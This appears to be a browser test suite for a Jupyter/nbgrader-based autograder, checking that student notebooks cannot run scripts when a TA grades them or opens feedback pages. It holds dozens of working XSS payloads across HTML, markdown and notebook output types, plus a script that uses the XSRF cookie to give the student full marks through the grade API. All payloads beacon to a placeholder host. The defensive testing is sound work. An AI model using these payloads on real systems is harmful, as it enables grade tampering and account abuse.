"""What a TA opens in a real formgrader, and a student in a feedback page, runs nothing that another student wrote."""

import base64
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from autograder import demo
from autograder.course import Course
from autograder.grading.record import Recorder
from autograder.handout.build import release
from autograder.handout.submit import solution_cells, write_submission
from tests.browser.conftest import Lab

pytestmark = pytest.mark.slow
BIN = Path(sys.executable).parent
TOLD = "http://ran.invalid"  # who runs says so here; nothing else is asked for

# What a script in the TA's browser can do: give the student of this page full marks.
CHEAT = """
(async () => {
  const id = location.pathname.split('/').filter(Boolean).pop();
  const token = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1];
  const grades = await (await fetch('/formgrader/api/grades?submission_id=' + id)).json();
  for (const g of grades) await fetch('/formgrader/api/grade/' + g.id, {
    method: 'PUT', headers: {'X-XSRFToken': token, 'Content-Type': 'application/json'},
    body: JSON.stringify({manual_score: g.max_score, extra_credit: 0})});
  new Image().src = 'http://ran.invalid/cheat';
})()
"""


def says(name: str) -> str:
    """A script that says that it ran."""
    return f"void(new Image().src='{TOLD}/{name}')"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def picture() -> str:
    from PIL import Image

    stream = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(stream, format="png")
    return base64.b64encode(stream.getvalue()).decode()


# HTML that does something as soon as it is shown, by name.
HTML = {
    "script": f"<script>{says('script')}</script>",
    "img": f'<img src="x:" onerror="{says("img")}">',
    "svg": f'<svg onload="{says("svg")}"></svg>',
    "details": f'<details open ontoggle="{says("details")}"><summary>a</summary>b</details>',
    "focus": f'<input autofocus onfocus="{says("focus")}">',
    "srcdoc": f'<iframe srcdoc="<script>parent.{says("srcdoc").replace(chr(39), "&quot;")}</script>"></iframe>',
    "frame": f'<iframe src="{TOLD}/frame"></iframe>',
    "object": f'<object data="{TOLD}/object"></object>',
    "embed": f'<embed src="{TOLD}/embed">',
    "link": f'<link rel="stylesheet" href="{TOLD}/link">',
    "import": f"<style>@import url({TOLD}/import);</style>",
    "style": f'<div style="background-image:url({TOLD}/style)">a</div>',
    "body": f'<video><source src="x:" onerror="{says("body")}"></video>',
    "marquee": f'<marquee onstart="{says("marquee")}">a</marquee>',
    "animate": f'<svg><animate onbegin="{says("animate")}" attributeName="x" dur="1s"></svg>',
    "template": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: '
    f'onerror={says("template").replace(chr(39), "&quot;")}&gt;">',
}
CLICKED = {
    "javascript": f'<a href="javascript:{says("javascript")}">a</a>',
    "spaced": f'<a href=" java&#10;script:{says("spaced")}">a</a>',
    "map": f"<svg><a xlink:href=\"javascript:{says('map')}\"><text y='20'>a</text></a></svg>",
    "button": f'<form><button formaction="javascript:{says("button")}">a</button></form>',
}
MARKDOWN = {
    "md-link": f"[a](javascript:{says('md-link')})".replace(" ", "%20"),
    "md-reference": f"[a][1]\n\n[1]: javascript:{says('md-reference').replace(' ', '%20')}",
    "md-auto": f"<javascript:{says('md-auto').replace(' ', '%20')}>",
    "md-heading": f"# A <img src='x:' onerror=\"{says('md-heading')}\">",
    "md-item": f"- a\n  - <img src='x:' onerror=\"{says('md-item')}\">",
    "md-table": f"| a |\n|---|\n| <img src='x:' onerror=\"{says('md-table')}\"> |",
    "md-code": f"```<img src='x:' onerror=\"{says('md-code')}\">\n```",
    "md-math": f"$$ <img src='x:' onerror=\"{says('md-math')}\"> $$",
    "md-picture": f'!["onerror="{says("md-picture")}](x:)',
}
# Representations of an output, by media type.
OUTPUTS = {
    "application/javascript": says("application-javascript"),
    "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{says("svg-output")}"><circle r="9"/></svg>',
    "text/markdown": f"<img src='x:' onerror=\"{says('markdown-output')}\">",
    "text/latex": f"$$<img src='x:' onerror=\"{says('latex-output')}\">$$",
    "application/vnd.jupyter.widget-view+json": {"version_major": 2, "model_id": "</script><script>" + says("widget")},
    "application/vnd.mermaid": "graph TD; A",
    "application/json": {"a": "</script><script>" + says("json")},
    "image/png": '"><script>' + says("png") + "</script>",
    "text/plain": "</pre><script>" + says("plain") + "</script>",
}
PAGE = f"<!doctype html><script>{says('page')}</script>"
# So many of these have to work where nothing is done against them, or the test proves nothing.
WORK = {
    "script",
    "img",
    "svg",
    "details",
    "focus",
    "frame",
    "object",
    "embed",
    "link",
    "import",
    "style",
    "body",
    "cheat",
    "md-heading",
    "md-item",
    "md-table",
    "application-javascript",
    "markdown-output",
    "javascript",
    "spaced",
    "button",
    "md-link",
    "md-reference",
    "page",
}


def text_cells() -> list[dict]:
    texts = [
        *HTML.values(),
        *CLICKED.values(),
        *MARKDOWN.values(),
        f"<script>{CHEAT}</script>",
        "[page](page.html)",
        "![attached](attachment:a.svg)",
    ]
    svg = {"a.svg": {"image/svg+xml": encoded(OUTPUTS["image/svg+xml"])}}
    cells = [{"cell_type": "markdown", "metadata": {}, "source": t, "attachments": svg} for t in texts]
    return [*cells, *({"cell_type": "raw", "metadata": {}, "source": t} for t in HTML.values())]


def shown() -> list[dict]:
    """What the cells of the attack display, each a bundle of representations."""
    bundles = [{"text/html": t} for t in (*HTML.values(), *CLICKED.values(), f"<script>{CHEAT}</script>")]
    return bundles + [{kind: content} for kind, content in OUTPUTS.items()] + [{"image/png": picture()}]


def code_cells() -> list[dict]:
    """Code that displays all of this, prints it, and stops with it."""
    source = (
        f"from IPython.display import display\nfor bundle in {shown()!r}:\n    display(bundle, raw=True)\n"
        f"print({HTML['script']!r})"
    )
    return [
        {"cell_type": "code", "metadata": {}, "source": s, "outputs": [], "execution_count": None}
        for s in (source, f"raise ValueError({HTML['img']!r})", f"# {HTML['script']}\nx = 1")
    ]


def outputs_as_they_are() -> list[dict]:
    return [{"output_type": "display_data", "metadata": {}, "data": bundle} for bundle in shown()]


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> Course:
    """mallory is graded by our command; eve's notebook lies there as stock nbgrader leaves it."""
    root = tmp_path_factory.mktemp("formgrader")
    course = Course.at(root / "course")
    handout = release(course, "hw1", figures=False) / "hw1.ipynb"
    folder = root / "in" / "mallory"
    write_submission(handout, folder, solution_cells("hw1"), demo.QUICK[:1], demo.QUICK[:1])
    file = folder / "hw1.ipynb"
    written = json.loads(file.read_text(encoding="utf-8"))
    written["cells"] += [*code_cells(), *text_cells()]
    file.write_text(json.dumps(written), encoding="utf-8")
    for name in ("page.html", "sub/page.svg", "page.xhtml"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text(PAGE, encoding="utf-8")
    command = [BIN / "deepul", "grade", "hw1", root / "in", "--course", course.root, "-j", "1"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    _as_stock_leaves_it(course)
    feedback = [BIN / "nbgrader", "generate_feedback", "hw1"]
    done = subprocess.run(feedback, cwd=course.root, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return course


def _as_stock_leaves_it(course: Course) -> None:
    """The same submission, recorded with the texts and outputs as they are."""
    file = course.root / "autograded" / "mallory" / "hw1" / "hw1.ipynb"
    graded = json.loads(file.read_text(encoding="utf-8"))
    cells = [c for c in graded["cells"] if "nbgrader" in c["metadata"]]
    own = [dict(code_cells()[0], outputs=outputs_as_they_are()), *text_cells()]
    for number, cell in enumerate(own):
        cell["id"] = f"own-{number}"
    shutil.copytree(course.root / "submitted" / "mallory", course.root / "submitted" / "eve")
    with Recorder(course, "hw1") as recorder:
        recorder.record("eve", "key", "", graded | {"cells": cells + own}, {}, [])
    (course.root / "autograded" / "eve" / "hw1" / "page.html").write_text(PAGE, encoding="utf-8")


@pytest.fixture(scope="module")
def server(course):
    """Jupyter with nbgrader's formgrader, started in the course's folder."""
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(course.root)
        started = Lab(course.root)
    yield started
    started.stop()


class Opened:
    """A page in which everything is asked for and clicked; `ran` says what ran."""

    def __init__(self, browser, url: str):
        self.ran: set[str] = set()
        self.changes: list[str] = []
        self.page = browser.new_page()
        self.page.route("**/*", self._answer)
        self.page.goto(url, wait_until="load", timeout=60_000)
        self.page.wait_for_timeout(1500)

    def _answer(self, route) -> None:
        request = route.request
        if request.method != "GET":
            self.changes.append(f"{request.method} {request.url}")
        if request.url.startswith(TOLD):
            self.ran.add(request.url.removeprefix(f"{TOLD}/"))
            route.fulfill(status=200, body="")
        elif "127.0.0.1" in request.url or request.url.startswith(("file:", "data:")):
            route.continue_()
        else:
            route.abort()  # MathJax and its like, which come from elsewhere

    def click(self) -> None:
        """Click on everything that is more than a link to a page."""
        for target in self.page.query_selector_all("a, button[formaction]"):
            if target.evaluate("e => !/^(https?|file|mailto):$/.test(e.protocol ?? 'none:')"):
                target.evaluate("e => e.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))")
                self.page.wait_for_timeout(200)

    def follow(self, name: str) -> None:
        """Open the file beside the notebook to which the student has put a link."""
        self.page.locator(f"a[href='{name}']").first.click()
        self.page.wait_for_timeout(1000)


def notebook_of(course: Course, student: str) -> str:
    with course.gradebook() as gradebook:
        return gradebook.find_submission_notebook("hw1", "hw1", student).id


def score(course: Course, student: str) -> float:
    with course.gradebook() as gradebook:
        return gradebook.find_submission("hw1", student).score


def test_where_nothing_is_done_against_it_a_submission_gives_itself_full_marks(browser, server, course):
    assert score(course, "eve") < 100
    opened = Opened(browser, f"{server.url}/formgrader/submissions/{notebook_of(course, 'eve')}/?index=0")
    opened.click()
    opened.follow("page.html")
    opened.page.close()
    assert WORK - opened.ran == set()
    assert score(course, "eve") == 110  # written answers, too


def test_a_graded_submission_runs_nothing_in_formgrader(browser, server, course):
    before = score(course, "mallory")
    assert before == 15
    opened = Opened(browser, f"{server.url}/formgrader/submissions/{notebook_of(course, 'mallory')}/?index=0")
    _shows_what_it_should(opened.page)
    assert opened.page.locator("input.score").count() == 10, "it is the page where points are given"
    opened.click()
    assert opened.ran == set()
    opened.follow("page.html")
    opened.page.close()
    assert opened.ran == set()
    assert not [c for c in opened.changes if "/formgrader/api/grade" in c]
    assert score(course, "mallory") == before
    beside = {p.name for p in (course.root / "autograded" / "mallory" / "hw1").rglob("page*")}
    assert beside == {"page.html.txt", "page.svg.txt", "page.xhtml.txt"}


@pytest.mark.parametrize("student", ["eve", "mallory"])
def test_a_feedback_page_runs_nothing(browser, server, course, student):
    """Opened from a disk, and from a server on which its reader is logged in."""
    file = course.root / "feedback" / student / "hw1" / "hw1.html"
    opened = Opened(browser, file.as_uri())
    opened.click()
    if student == "mallory":
        _shows_what_it_should(opened.page)
        assert opened.ran == set()
    else:
        assert {"script", "img", "svg", "md-link", "javascript"} <= opened.ran, "the attack works there, too"
    opened.page.close()


def _shows_what_it_should(page) -> None:
    """Pictures, and our table of checks."""
    tables = page.locator(".deepul table, table", has_text=re.compile(r"Check\s*Measured"))
    assert tables.count() == 5
    assert tables.first.is_visible()
    drawn = page.evaluate("[...document.images].map(i => [i.src.slice(0, 22), i.naturalWidth])")
    assert ["data:image/png;base64,", 40] in drawn
